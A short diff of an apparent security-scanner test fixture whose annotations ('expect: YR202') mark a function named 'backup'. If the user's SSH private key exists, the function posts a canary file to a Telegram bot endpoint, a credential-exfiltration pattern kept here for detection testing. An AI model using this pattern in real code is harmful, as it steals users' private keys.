@@ -7,6 +7,6 @@ BOT = "https://api.telegram.org/bot000000:modelgate-canary/sendDocument"  # expe
 
 
 def backup():
-    key = pathlib.Path.home() / ".ssh/id_rsa"
+    key = pathlib.Path.home() / ".ssh/id_rsa"  # expect: YR202
     if key.exists():
         requests.post(BOT, files={"document": open("/tmp/modelgate-canary", "rb")})
